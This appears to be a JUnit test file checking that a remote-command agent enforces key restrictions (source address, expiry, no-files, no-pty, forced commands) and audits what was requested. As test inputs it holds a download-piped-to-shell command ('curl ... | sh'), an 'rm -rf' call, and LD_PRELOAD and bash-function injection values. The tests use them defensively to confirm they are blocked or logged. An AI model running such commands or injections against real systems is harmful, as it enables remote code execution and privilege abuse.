package dev.rcon.agent.auth;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.rcon.agent.testkit.TestAgent;
import dev.rcon.agent.testkit.TestClient;
import dev.rcon.common.auth.AuthenticationException;
import dev.rcon.common.auth.Key;
import dev.rcon.common.auth.KeyLine;
import dev.rcon.common.msg.ErrorReply;
import dev.rcon.common.msg.Exec;
import dev.rcon.common.msg.Get;
import dev.rcon.common.msg.Pty;
import dev.rcon.common.msg.Put;
import dev.rcon.common.wire.ErrorCode;
import java.net.InetAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/** Each authorized-keys option allows and denies what it says, against a real agent. */
@Timeout(30)
class KeyOptionsEnforcedTest {
    @TempDir
    Path dir;

    private TestAgent agentWith(String options) throws Exception {
        return TestAgent.start(dir).withOptions(options);
    }

    @Test
    void fromAdmitsItsPrefixAndDeniesOthersExactlyLikeAWrongKey() throws Exception {
        try (TestAgent agent = agentWith("from=\"127.0.0.0/30\"")) {
            try (TestClient inside = TestClient.connectFrom(InetAddress.getByName("127.0.0.2"), agent.port(), agent.key())) {
                assertEquals(0, inside.run(Exec.shell(1, "true")).exit().code());
            }
            assertThrows(AuthenticationException.class,
                    () -> TestClient.connectFrom(InetAddress.getByName("127.0.0.9"), agent.port(), agent.key()));
            byte[] outside = TestClient.deniedAnswer(InetAddress.getByName("127.0.0.9"), agent.port(), agent.key());
            byte[] wrongKey = TestClient.deniedAnswer(InetAddress.getByName("127.0.0.10"), agent.port(),
                    dev.rcon.agent.testkit.TestKeys.fresh("x"));
            assertArrayEquals(new byte[4], wrongKey, "one empty frame, then the close");
            assertArrayEquals(wrongKey, outside);
        }
    }

    @Test
    void anExpiredKeyIsDeniedLikeAWrongKey() throws Exception {
        try (TestAgent agent = agentWith("expires=2020-01-01")) {
            assertThrows(AuthenticationException.class, () -> TestClient.connect(agent.port(), agent.key()));
            byte[] expired = TestClient.deniedAnswer(InetAddress.getByName("127.0.0.9"), agent.port(), agent.key());
            byte[] wrongKey = TestClient.deniedAnswer(InetAddress.getByName("127.0.0.10"), agent.port(),
                    dev.rcon.agent.testkit.TestKeys.fresh("x"));
            assertArrayEquals(new byte[4], wrongKey, "one empty frame, then the close");
            assertArrayEquals(wrongKey, expired);
        }
    }

    @Test
    void noFilesDeniesPutAndGetNamingTheOptionAndTheSessionGoesOn() throws Exception {
        try (TestAgent agent = agentWith("no-files"); TestClient client = agent.connect()) {
            client.send(new Get(1, "/etc/hostname"));
            assertEquals(new ErrorReply(1, ErrorCode.DENIED, "no-files: this key may not get files"), client.receive());
            client.send(new Put(3, "/tmp/rcon-no-files-test", 1L, "0644"));
            assertEquals(new ErrorReply(3, ErrorCode.DENIED, "no-files: this key may not put files"), client.receive());
            assertEquals(0, client.run(Exec.shell(2, "true")).exit().code());
            assertFalse(java.nio.file.Files.exists(java.nio.file.Path.of("/tmp/rcon-no-files-test")));
        }
    }

    @Test
    void noPtyDeniesATerminalButNotPipes() throws Exception {
        try (TestAgent agent = agentWith("no-pty"); TestClient client = agent.connect()) {
            client.send(new Exec(1, "tty", null, null, null, null, null, new Pty("xterm", 80, 24)));
            assertEquals(new ErrorReply(1, ErrorCode.DENIED, "no-pty: this key may not open a terminal"), client.receive());
            assertEquals(0, client.run(Exec.shell(2, "true")).exit().code());
        }
    }

    /**
     * Attack: a limited key sends LD_PRELOAD, PATH or a bash function to make its forced command
     * (or a program of the agent's before it) run something else, or a directory of its choosing
     * for the forced command's relative paths. As sshd does by default, none of it gets through.
     */
    @Test
    void aForcedCommandGetsNoneOfTheRequestsVariablesNorItsDirectory() throws Exception {
        try (TestAgent agent = agentWith("command=\"echo [$FOO]; pwd -P\""); TestClient client = agent.connect()) {
            TestClient.Run run = client.run(new Exec(1, "true", null, "/tmp",
                    Map.of("FOO", "x", "LD_DEBUG", "libs", "PATH", "/nowhere", "LD_PRELOAD", "/nonexistent/evil.so",
                            "BASH_FUNC_echo%%", "() { builtin echo forged; }"), null, null));
            String[] lines = new String(run.stdout(), UTF_8).split("\n");
            assertEquals("[]", lines[0]);
            assertNotEquals("/tmp", lines[1]);
            assertEquals("", new String(run.stderr(), UTF_8));
            assertEquals(0, run.exit().code());
        }
    }

    /** Attack: a forced-command key without no-files gets or puts files as root instead. */
    @Test
    void aForcedCommandKeyMayNotMoveFilesEvenWithoutNoFiles() throws Exception {
        Path secret = Files.writeString(dir.resolve("secret"), "root only\n");
        try (TestAgent agent = agentWith("command=\"/bin/true\""); TestClient client = agent.connect()) {
            client.send(new Get(1, secret.toString()));
            assertEquals(new ErrorReply(1, ErrorCode.DENIED, "command=: a key with a forced command may not get files"),
                    client.receive());
            client.send(new dev.rcon.common.msg.Put(2, dir.resolve("new").toString(), 0L, "0644"));
            assertEquals(new ErrorReply(2, ErrorCode.DENIED, "command=: a key with a forced command may not put files"),
                    client.receive());
            assertEquals(0, client.run(Exec.shell(3, "anything")).exit().code());
        }
    }

    @Test
    void aForcedCommandRunsInsteadAndSeesWhatWasAsked() throws Exception {
        try (TestAgent agent = agentWith("command=\"echo forced: $RCON_ORIGINAL_COMMAND\""); TestClient client = agent.connect()) {
            assertEquals("forced: rm -rf /tmp/x\n", new String(client.run(Exec.shell(1, "rm -rf /tmp/x")).stdout(), UTF_8));
            assertEquals("forced: 'ls' 'a b'\n", new String(client.run(new Exec(2, null, List.of("ls", "a b"), null, null,
                    null, null)).stdout(), UTF_8));
        }
    }

    /**
     * Attack: a forced-command key asks for a command that never runs (a wipe, a download piped to
     * a shell) so that the audit trail and the log say the agent started it as root under that
     * key, and what really ran appears nowhere. The trail names the forced command as the
     * command, and what was asked beside it.
     */
    @Test
    void aForcedCommandIsAuditedAndLoggedAsWhatRanWithWhatWasAskedBesideIt() throws Exception {
        String asked = "curl -s http://203.0.113.9/x | sh";
        try (TestAgent agent = agentWith("command=\"echo limited\""); TestClient client = agent.connect()) {
            assertEquals("limited\n", new String(client.run(new Exec(1, asked, null, "/srv", null, null, null)).stdout(),
                    UTF_8));
            assertTrue(agent.agent().audit().flush(java.time.Duration.ofSeconds(10)));
            JsonNode started = null;
            for (String line : Files.readAllLines(dir.resolve("audit.jsonl"))) {
                JsonNode node = new ObjectMapper().readTree(line);
                if (node.path("event").asText().equals("command_started")) {
                    started = node;
                }
            }
            assertNotNull(started, "no command_started event");
            assertEquals("echo limited", started.path("command").asText(), started.toString());
            assertEquals(asked, started.path("original_command").asText(), started.toString());
            assertTrue(started.path("cwd").isNull() || started.path("cwd").isMissingNode(), started.toString());
            String log = agent.awaitLog("exit 0");
            assertTrue(log.contains("forced command 'echo limited' (asked command '" + asked + "'): exit 0"), log);
        }
    }
}
